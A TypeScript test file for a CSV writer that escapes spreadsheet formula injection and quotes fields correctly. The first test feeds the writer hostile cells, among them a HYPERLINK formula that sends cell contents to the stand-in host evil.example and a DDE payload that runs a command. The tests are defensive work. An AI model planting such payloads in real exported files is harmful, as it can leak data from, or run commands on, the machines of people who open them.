// Every CSV the site produces goes through one writer: fields are quoted when they must
// be, and a cell a spreadsheet would run as a formula is turned into plain text.
import { describe, expect, it } from 'vitest';
import { csvCell, csvDocument } from './csv-writer.ts';

describe('csvCell', () => {
  it('turns cells a spreadsheet would run as formulas into text with a leading quote', () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`,
    );
    expect(csvCell('+1+cmd|/C calc!A0')).toBe(`'+1+cmd|/C calc!A0`);
    expect(csvCell('-2+3')).toBe(`'-2+3`);
    expect(csvCell('@SUM(A1:A9)')).toBe(`'@SUM(A1:A9)`);
    expect(csvCell('\t=1+1')).toBe(`"'\t=1+1"`);
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
  });

  it('leaves plain numbers, negative ones included, and ordinary text alone', () => {
    expect(csvCell('-2.6111')).toBe('-2.6111');
    expect(csvCell('+44')).toBe('+44');
    expect(csvCell('425000')).toBe('425000');
    expect(csvCell('14 Church Lane')).toBe('14 Church Lane');
    expect(csvCell('')).toBe('');
  });

  it('quotes fields holding separators, quotes or line breaks', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a;=b')).toBe('"a;=b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
  });
});

describe('csvDocument', () => {
  it('writes rows with CRLF line ends and a final line break', () => {
    expect(
      csvDocument([
        ['row', 'reference'],
        ['4', '=1+2'],
      ]),
    ).toBe(`row,reference\r\n4,'=1+2\r\n`);
  });
});
